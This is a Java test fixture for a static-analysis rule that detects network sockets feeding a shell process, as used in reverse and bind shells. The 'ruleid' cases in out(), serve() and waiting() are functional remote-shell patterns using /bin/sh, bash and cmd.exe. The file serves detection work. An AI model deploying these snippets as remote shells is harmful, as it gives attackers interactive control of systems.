import java.io.*;
import java.net.*;

class Tunnel {
    static void out(String host) throws Exception {
        Socket s = new Socket(host, 4443);
        Process p = new ProcessBuilder("/bin/sh", "-i").redirectErrorStream(true).start();
        InputStream in = s.getInputStream();
        OutputStream o = p.getOutputStream();
        while (!s.isClosed()) {
            // ruleid: java-connection-feeds-shell
            o.write(in.read());
            o.flush();
        }
    }

    static void serve(Socket peer) throws Exception {
        Process p = Runtime.getRuntime().exec("bash");
        // ruleid: java-connection-feeds-shell
        pump(peer.getInputStream(), p.getOutputStream());
    }

    static void waiting(ServerSocket l) throws Exception {
        Socket c = l.accept();
        Process p = new ProcessBuilder("cmd.exe").start();
        byte[] b = new byte[512];
        int n = c.getInputStream().read(b);
        // ruleid: java-connection-feeds-shell
        p.getOutputStream().write(c.getInputStream().read());
        // ok: java-connection-feeds-shell
        c.getOutputStream().write(b);
    }

    static void sorted(Socket peer) throws Exception {
        Process p = new ProcessBuilder("/usr/bin/sort").start();
        // ok: java-connection-feeds-shell
        pump(peer.getInputStream(), p.getOutputStream());
    }

    static void local(File f) throws Exception {
        Process p = Runtime.getRuntime().exec("sh");
        // ok: java-connection-feeds-shell
        p.getOutputStream().write(new FileInputStream(f).read());
    }
}
